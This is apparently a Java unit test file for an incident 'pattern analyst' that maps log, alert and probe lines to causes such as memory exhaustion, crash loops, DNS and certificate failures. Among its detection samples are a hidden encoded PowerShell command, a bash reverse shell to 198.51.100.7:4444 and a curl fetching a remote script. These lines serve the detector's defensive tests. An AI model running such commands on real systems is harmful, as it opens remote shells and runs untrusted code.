package dev.serai.analysis;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.serai.policy.PolicyException;
import dev.serai.policy.PolicyFile;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class PatternAnalystTest {

    private static final PatternAnalyst SHIPPED = shipped();

    private static PatternAnalyst shipped() {
        try {
            String text = Files.readString(Path.of("../routes/analysis/patterns.yaml"));
            return PatternAnalyst.of(PolicyFile.read("patterns.yaml", text, PatternAnalyst.schema()));
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "java.lang.OutOfMemoryError: Java heap space | ran out of memory",
                "Last State: Terminated, Reason: OOMKilled, Exit Code: 137 | ran out of memory",
                "Back-off 5m0s restarting failed container=app | keeps crashing",
                "label alertname = KubePodCrashLooping | keeps crashing",
                "Failed to pull image registry.test/app:9: not found | cannot be pulled",
                "Readiness probe failed: HTTP probe failed with statuscode: 500 | health probe",
                "label alertname = EndpointDown | health probe",
                "dial tcp: lookup db.shop on 10.0.0.10:53: no such host | cannot be resolved",
                "java.net.UnknownHostException: db | cannot be resolved",
                "dial tcp 10.1.2.3:5432: connect: connection refused | Nothing listens",
                "Get https://api: context deadline exceeded (Client.Timeout) | answer in time",
                "upstream request timeout: read timed out | answer in time",
                "x509: certificate has expired or is not yet valid | TLS certificate",
                "label alertname = SSLCertExpiringSoon | TLS certificate",
                "write /var/lib/pg: no space left on device | disk",
                "label alertname = NodeFilesystemAlmostOutOfSpace | disk",
                "open /etc/x: permission denied | lacks a permission",
                "HTTP 429 Too Many Requests | too many of them",
                "ERROR: deadlock detected | wait for each other",
                "FATAL: sorry, too many clients already | wait for each other",
                "HikariPool-1 - Connection is not available, request timed out after 30000ms | wait for each other",
                "required environment variable DB_URL is not set | missing",
                "Error: configmap \"orders-config\" not found | missing",
                "worker[42]: segfault at 0 ip 00007f | native code",
                "signal: SIGSEGV | native code",
                "upstream answered HTTP/1.1 503 Service Unavailable | errors of its own",
                "label alertname = KubeNodeNotReady | node of the cluster",
                "node condition Ready is Unknown: NodeStatusUnknown | node of the cluster",
                "node condition MemoryPressure is True: KubeletHasInsufficientMemory | runs short",
                "No pod of the current revision 5 is ready; revision 4 before it still has 2 ready. | newest rollout fails",
                "condition Progressing is False: ProgressDeadlineExceeded | makes no progress",
                "0/3 nodes are available: 1 Insufficient cpu, 2 Insufficient memory. | No node has the CPU",
                "0/3 nodes are available: 3 node(s) had untolerated taint {dedicated: db}. | No node accepts",
                "Failed to pull image r.test/cart:9: rpc error: code = NotFound desc = r.test/cart:9: not found | does not exist in",
                "failed to resolve reference r.test/cart:9: unexpected status: 401 Unauthorized | does not let the cluster",
                "Warning Unhealthy on Pod cart-1: Liveness probe failed: HTTP 500 | again and again",
                "  its last run ended with exit code 127, Error | cannot be run",
                "container app: uses 90 % or more of its limit of 256Mi memory | nearly all the memory",
                "KeyError: 'CART_DB_URL' | missing",
                "FATAL: CART_DB_URL must be set | missing",
                "Error: couldn't find key url in Secret shop/cart-db | missing",
                "label alertname = HpaAtMaximum | no room left",
                "Error creating: pods is forbidden: exceeded quota: compute, requested: cpu=1 | quota of the namespace",
                "x509: certificate signed by unknown authority | not trusted",
                "{\"outcome\": \"failed\", \"reason\": \"CONNECTION_REFUSED\"} | Nothing listens",
                "{\"outcome\":\"failed\",\"reason\":\"UNKNOWN_HOST\"} | cannot be resolved",
                "{\"outcome\":\"failed\",\"reason\":\"TIMEOUT\"} | answer in time",
                "{\"reason\":\"HTTP_STATUS\",\"status\":503} | errors of its own",
                "{\"entropy\": 7.98, \"size\": 40960} | compressed or encrypted",
                "{\"limits\": [], \"findings\": [\"HIGH_ENTROPY\"]} | compressed or encrypted",
                "{\"findings\": [\"ENCODED_LAYERS\", \"SCRIPT\", \"DOWNLOADER\"]} | encoded layers",
                "{\"findings\": [\"SCRIPT\", \"DOWNLOADER\"]} | run further code",
                "{\"findings\": [\"EXECUTABLE\"]} | executable program",
                "encoded run of 4096 characters at byte 12 | encoded layers",
                "powershell.exe -nop -w hidden -enc SQBFAFgA | run further code",
                "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1 | run further code",
                "type by content: ELF program | executable program"
            })
    void each_known_trouble_is_found_and_cited(String line, String cause) {
        Evidence log = Facts.log("before\n" + line + "\nafter");

        Analysis analysis = SHIPPED.analyse(List.of(Facts.log("all is well"), log), List.of());

        assertThat(analysis.causes())
                .filteredOn(found -> found.text().contains(cause))
                .singleElement()
                .satisfies(found -> {
                    assertThat(found.evidence()).containsExactly(log.id());
                    assertThat(found.cited()).isTrue();
                });
        assertThat(analysis.reason()).isEqualTo(AnalysisReason.PATTERNS_MATCHED);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "label alertname = HighErrorRate\nannotation summary = 5xx of checkout at 12 %",
                "label alertname = KafkaConsumerLagHigh",
                "label alertname = KubePodCrashLooping",
                "label alertname = EndpointDown"
            })
    void what_an_alert_says_of_itself_is_no_cause_until_something_else_shows_it(String text) {
        Evidence alert = Facts.evidence(EvidenceKind.EVENT, "alert:1", text);

        Analysis alone = SHIPPED.analyse(List.of(alert), List.of());
        assertThat(alone.causes()).isEmpty();
        assertThat(alone.ruledOut()).isEmpty();
        assertThat(alone.reason()).isEqualTo(AnalysisReason.NO_KNOWN_PATTERN);

        Evidence log = Facts.log("upstream answered HTTP/1.1 503\nconsumer group lag is high\n"
                + "back-off restarting failed container\nliveness probe failed");
        assertThat(SHIPPED.analyse(List.of(alert, log), List.of()).causes())
                .anySatisfy(cause -> assertThat(cause.evidence()).contains(alert.id(), log.id()));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "all is well",
                "",
                "GET /index.html 200 12ms",
                "the timeout is set to 30 s",
                "deployed version 5.0.3 of orders; 500 pods ready",
                "certificate renewed until 2027",
                "curl -s http://198.51.100.7/x.sh",
                "disk usage is 40 %",
                "log_level is set, cart_url required by nobody",
                "dependency x not found in cache, will pull it",
                "GET /cart/42: item not found, resolve by id",
                "Pod shop/cart-1 of cluster shop: Running\ncontainer app: running, ready, restarted once\n"
                        + "  its last run ended with exit code 137, Error (signal 9)\n  liveness check: GET /healthz",
                "No pod of the current revision 5 is missing",
                "container app: uses 50 to 75 % of its limit of 256Mi memory",
                "{\"tool\": \"serai-inspect/1\", \"entropy\": 4.2, \"layers\": [], \"findings\": []}",
                "{\"outcome\":\"succeeded\",\"reason\":\"ANSWERED\",\"status\":200}"
            })
    void an_honest_answer_is_that_no_pattern_is_known(String text) {
        Analysis analysis = SHIPPED.analyse(List.of(Facts.log(text)), List.of("probe-service"));

        assertThat(analysis.causes()).isEmpty();
        assertThat(analysis.playbooks()).isEmpty();
        assertThat(analysis.reason()).isEqualTo(AnalysisReason.NO_KNOWN_PATTERN);
        assertThat(analysis.summary()).contains("No known pattern");
    }

    @Test
    void only_playbooks_that_match_are_recommended_the_surest_first() {
        Evidence log = Facts.log("connection refused\nOOMKilled\ndial: no such host");

        Analysis analysis = SHIPPED.analyse(List.of(log), List.of("inspect-artefact", "probe-service"));

        assertThat(analysis.causes()).extracting(Cause::confidence).containsExactly(0.9, 0.85, 0.8);
        assertThat(analysis.playbooks()).containsExactly("probe-service");
        assertThat(analysis.summary())
                .startsWith("The process ran out of memory")
                .contains("“OOMKilled”");
    }

    @Test
    void what_was_wrong_in_the_past_says_nothing_about_now() {
        assertThat(SHIPPED.analyse(List.of(Facts.past("OOMKilled")), List.of()).causes())
                .isEmpty();
    }

    @Test
    void without_evidence_there_is_nothing_to_say() {
        assertThat(SHIPPED.analyse(List.of(), List.of()).reason()).isEqualTo(AnalysisReason.NO_EVIDENCE);
    }

    @Test
    void a_text_made_to_hang_an_expression_only_stays_unmatched() {
        PatternAnalyst fragile = read(
                """
                patterns:
                  - { id: bad-one, cause: Bad., confidence: 1, playbook: none-such, any: ['(a+)+b'] }
                """);

        Analysis analysis = Assertions.assertTimeoutPreemptively(
                Duration.ofSeconds(60), () -> fragile.analyse(List.of(Facts.log("a".repeat(8000))), List.of()));

        assertThat(analysis.causes()).isEmpty();
    }

    @Test
    void a_broken_file_is_refused_with_line_and_reason() {
        assertThatThrownBy(
                        () -> read(
                                """
                        patterns:
                          - { id: one, cause: C., confidence: 2, playbook: some-book, any: ['x(y'] }
                        """))
                .isInstanceOf(PolicyException.class)
                .hasMessageContaining("p.yaml:2:");
        assertThatThrownBy(
                        () -> read(
                                """
                        patterns:
                          - id: one
                            cause: C.
                            confidence: 1
                            playbook: some-book
                            any:
                              - 'x(y'
                        """))
                .isInstanceOf(PolicyException.class)
                .hasMessageContaining("p.yaml:7:")
                .hasMessageContaining("not a regular expression");
        assertThatThrownBy(
                        () -> read(
                                """
                        patterns:
                          - { id: one, cause: C., confidence: 1, playbook: some-book, any: [xxx] }
                          - { id: one, cause: C., confidence: 1, playbook: some-book, any: [xxx] }
                        """))
                .isInstanceOf(PolicyException.class)
                .hasMessageContaining("p.yaml:3:")
                .hasMessageContaining("two 'one'");
    }

    @Property(tries = 200)
    void whatever_the_text_every_claim_cites_evidence_that_was_given(@ForAll List<String> texts) {
        List<Evidence> evidence = texts.stream().limit(5).map(Facts::log).toList();

        Analysis analysis = SHIPPED.analyse(evidence, List.of());

        assertThat(analysis.causes())
                .allSatisfy(cause ->
                        assertThat(evidence.stream().map(Evidence::id).toList()).containsAll(cause.evidence()));
    }

    private static PatternAnalyst read(String text) {
        return PatternAnalyst.of(PolicyFile.read("p.yaml", text, PatternAnalyst.schema()));
    }
}
